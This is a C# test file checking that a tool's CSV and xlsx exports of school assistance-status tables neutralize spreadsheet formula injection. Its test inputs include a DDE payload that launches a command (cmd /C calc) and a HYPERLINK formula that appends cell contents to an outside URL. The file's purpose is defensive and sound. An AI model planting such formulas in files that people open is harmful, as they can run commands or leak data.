using System.IO.Compression;
using System.Xml.Linq;
using CsCheck;
using SystemOfSupport.Formats.StatusWorkbooks;
using SystemOfSupport.Formats.Tests.StatusWorkbooks;
using SystemOfSupport.Formats.Text;
using SystemOfSupport.Tests;

namespace SystemOfSupport.Formats.Tests.Hostile;

/// <summary>
/// Exported files are safe to open in a spreadsheet: CSV text that would run as a formula gets a leading quote (numbers
/// stay numbers), and xlsx text is written as strings, never formulas. This tool reads its own CSV back unchanged.
/// </summary>
public class FormulaInjectionTests
{
    private const string Seed = "0N0XIzNsQ0O2";
    private const string Hostile = "=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")";

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+SUM(A1:A9)", "'+SUM(A1:A9)")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("-", "'-")]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("-12.5", "-12.5")]
    [InlineData("+3", "+3")]
    [InlineData("-1E-3", "-1E-3")]
    [InlineData("Salinas Union High", "Salinas Union High")]
    [InlineData("*", "*")]
    [InlineData("", "")]
    [InlineData("a,b", "\"a,b\"")]
    public void Formula_like_text_is_quoted_and_numbers_are_kept(string value, string written) => CsvText.Field(value).ShouldBe(written);

    [Fact]
    public void No_written_field_starts_a_formula_and_every_one_reads_back_as_it_was()
    {
        var text = Gen.OneOf(Gen.String[Gen.Char["=+-@\t\r\n,\"'0123456789.Ea "], 0, 12], Gen.Double.Select(d => d.ToString("R", System.Globalization.CultureInfo.InvariantCulture)));
        text.Sample(
            value =>
            {
                var written = CsvText.Record([value, "x"]);
                var field = CsvRecordReader.Read(new StringReader(written), "property.csv").Single().Fields[0];
                if (field.Length > 0 && "=+-@\t\r".Contains(field[0], StringComparison.Ordinal))
                {
                    double.TryParse(field, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _)
                        .ShouldBeTrue($"'{field}' starts a formula");
                }

                CsvText.Restored(field).ShouldBe(value);
            },
            seed: Seed,
            iter: 2_000,
            threads: 1);
    }

    [Fact]
    public void The_status_csv_neutralizes_a_formula_named_LEA_and_reads_it_back_as_named()
    {
        var table = TestTables.Standard2024();
        var nameColumn = table.Columns[table.Rows[0].ToList().IndexOf("Alameda County Office of Education")];
        var hostile = table.With(0, nameColumn, Hostile).With(1, nameColumn, "-12.5");
        using var dir = RepoPaths.NewTempDir();
        var csv = dir.File("assistancestatus24.csv");
        AssistanceStatusCsvWriter.Write(hostile, csv);

        var text = File.ReadAllText(csv);
        text.ShouldContain("\"'=HYPERLINK(");
        text.ShouldContain(",-12.5,");
        var back = AssistanceStatusWorkbookReader.Read(csv);
        back.Cells[0].ShouldContain(Hostile);
        back.Cells[1].ShouldContain("-12.5");
    }

    [Fact]
    public void The_status_workbook_writes_formula_like_text_as_a_string_never_a_formula()
    {
        var hostile = TestTables.Standard2024();
        var nameColumn = hostile.Columns[hostile.Rows[0].ToList().IndexOf("Alameda County Office of Education")];
        hostile = hostile.With(0, nameColumn, Hostile);
        using var dir = RepoPaths.NewTempDir();
        var xlsx = dir.File("assistancestatus24.xlsx");
        AssistanceStatusWorkbookWriter.Write(hostile, xlsx);

        using (var zip = ZipFile.OpenRead(xlsx))
        {
            foreach (var sheet in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
            {
                using var stream = sheet.Open();
                XDocument.Load(stream).Descendants().Where(e => e.Name.LocalName == "f").ShouldBeEmpty($"{sheet.FullName} holds a formula");
            }
        }

        AssistanceStatusWorkbookReader.Read(xlsx).Cells[0].ShouldContain(Hostile);
    }
}
